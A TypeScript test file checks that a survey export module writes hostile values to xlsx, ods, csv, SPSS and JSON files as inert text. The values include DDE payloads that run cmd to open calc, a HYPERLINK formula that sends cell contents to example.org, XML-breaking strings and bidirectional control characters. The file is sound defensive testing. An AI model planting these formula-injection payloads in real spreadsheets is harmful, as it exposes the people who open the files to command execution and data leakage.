import { expect, test } from "vitest";
import { csvCells, odsRows, unzip, xlsxRows } from "../../src/kernel/tables/tables.testing.ts";
import type { AnswerRow, Codebook } from "../../src/modules/surveys/export/codebook.ts";
import { bytesOf, writtenAt } from "../../src/modules/surveys/export/export.testing.ts";
import { readSav } from "../../src/modules/surveys/export/sav.testing.ts";
import { type ExportFormat, writeExport } from "../../src/modules/surveys/export/write-export.ts";

/** Names and answers that are to do something in whatever opens the file. */
const formulas = [
  "=1+1",
  "=cmd|'/c calc'!A1",
  "+1+1",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(A1:A9)",
  '=HYPERLINK("https://example.org/?x="&A1;"svar")',
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "＝1+1",
  '"=1+1',
  "a\n=1+1",
  "a;=1+1",
  'a";=1+1;"',
  "a,=1+1",
  "a\t=1+1",
];
const others = [
  'citat " mitt i',
  '""',
  "rad ett\nrad två",
  "rad ett\r\nrad två",
  "\u202Ebakvänt\u202C",
  "\u2066inåt\u2069",
  "\u200Fhöger",
  "a\u0000b",
  "</t></is></c><c><f>1+1</f></c>",
  "<text:p/>&amp;&#x41;_x0041_",
  "]]>",
  "'redan",
  "𝄞 👩‍🔬",
];
const long = `=${"lång text med å, ä och ö. ".repeat(1_600)}`;
const hostile = [...formulas, ...others, long];

const codebook: Codebook = {
  language: "sv",
  title: "=1+1",
  notes: [{ label: "=1+1", value: "@SUM(A1)" }],
  variables: [
    { name: "namn", label: "=HYPERLINK(1)", type: { kind: "text", bytes: 90_000 }, measure: "nominal" },
    {
      name: "kod",
      label: "+1+1",
      type: { kind: "number", width: 4, decimals: 0 },
      measure: "nominal",
      values: formulas.map((label, value) => ({ value, label })),
    },
  ],
};
const rows: readonly AnswerRow[] = hostile.map((namn, kod) => ({ namn, kod: kod % formulas.length }));

async function written(format: ExportFormat): Promise<Buffer> {
  return bytesOf(writeExport(format, { codebook, rows }, { at: writtenAt }));
}

/** What no file of XML can hold, a line end as XML and ODF have it, and a mark that says that what follows is a text. */
const told = (text: string): string =>
  text
    .replaceAll(/[^\P{Cc}\t\n\r]|\uFFFD/gu, "")
    .replaceAll(/\r\n?/gu, "\n")
    .replace(/^'/u, "");

test("hostile names, answers and labels are texts in every spreadsheet, and come back as they were", async () => {
  const xlsx = [...unzip(await written("xlsx"))]
    .filter(([name]) => name.includes("worksheets/"))
    .map(([, sheet]) => xlsxRows(String(sheet)));
  const ods = odsRows(String(unzip(await written("ods")).get("content.xml")));
  for (const row of [...xlsx.flat(), ...ods]) for (const cell of row) expect(cell.formula, cell.text.slice(0, 40)).toBe(false);
  for (const table of [xlsx[0] ?? [], ods]) {
    const names = table.slice(1, 1 + hostile.length).map(([name]) =>
      told(name?.text ?? "")
        .slice(0, 30_000)
        .trim(),
    );
    expect(names).toEqual(hostile.map((text) => told(text).slice(0, 30_000).trim()));
  }
});

test("in CSV none is a formula, whichever way the cells are divided; control: without the mark they are", async () => {
  const csv = (await written("csv")).toString();
  for (const delimiter of [";", ",", "\t"])
    for (const quotes of [true, false]) {
      const cells = csvCells(csv, delimiter, quotes);
      if (delimiter === ";" && quotes) for (const { text, formula } of cells) expect(formula, text.slice(0, 40)).toBe(false);
      const first = cells.filter(({ text }) => /^"*[=+@]/u.test(text));
      expect(
        first.map(({ text }) => text.slice(0, 40)),
        `${delimiter} ${quotes}`,
      ).toEqual([]);
    }
  const naive = hostile.map((text) => `"${text.replaceAll('"', '""')}"`).join("\r\n");
  expect(csvCells(naive, ";", true).filter(({ formula }) => formula).length).toBeGreaterThan(8);
});

test("in a file of SPSS and in JSON they are the bytes that they were", async () => {
  const json = JSON.parse((await written("json")).toString()) as { readonly rows: readonly AnswerRow[] };
  expect(json.rows.map(({ namn }) => namn)).toEqual(hostile);
  const sav = readSav(await written("sav"));
  const texts = sav.rows.map((row) =>
    Object.entries(row)
      .filter(([name]) => name !== "kod")
      .map(([, part]) => String(part))
      .join(""),
  );
  expect(texts).toEqual(hostile.map((text) => text.replace(/ +$/u, "")));
  expect(sav.variables.find(({ name }) => name === "kod")?.values.map(({ label }) => label)).toEqual(
    formulas.map((label) => expect.stringContaining(label.trim().slice(-4)) as string),
  );
});
